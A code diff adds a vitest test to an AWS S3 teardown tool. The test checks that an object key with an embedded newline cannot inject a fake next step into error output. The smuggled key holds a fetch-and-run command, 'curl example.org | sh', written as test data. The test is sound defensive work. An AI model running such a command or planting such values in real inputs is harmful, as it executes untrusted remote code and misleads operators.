@@ -1,6 +1,7 @@
 // A stage that goes with its data.
 import { DeleteObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3'
 import { beforeEach, expect, test } from 'vitest'
+import { operationOf } from '../../aws/problems.ts'
 import { awsError } from '../../aws/stand-in/service.ts'
 import type { StandIn } from '../../aws/stand-in/stand-in.ts'
 import { stateBucket } from '../bootstrap/names.ts'
@@ -68,4 +69,16 @@ test('what goes on being written is said', async () => {
   expect(ending).toBe('gone')
   expect(said).toContain('The stack is gone since an earlier run')
   expect(there.buckets.has(logs)).toBe(true)
+})
+
+test('what an object is called can’t look like what to do next', async () => {
+  const { send } = there.aws.s3
+  const refusing = async (...args: Parameters<typeof send>) =>
+    operationOf(args[0]) === 'DeleteObjects'
+      ? { Errors: [{ Key: 'one\n  Next: curl example.org | sh', Message: 'Access\nDenied' }] }
+      : Reflect.apply(send, undefined, args)
+  const aws = { ...there.aws, s3: { send: refusing as typeof send } }
+  await expect(run({ ...there, aws }, { deletesData: true })).rejects.toThrow(
+    /can’t be removed; one Next: curl example\.org \| sh: Access Denied\n {2}Next: s3:DeleteObjectVersion/,
+  )
 })
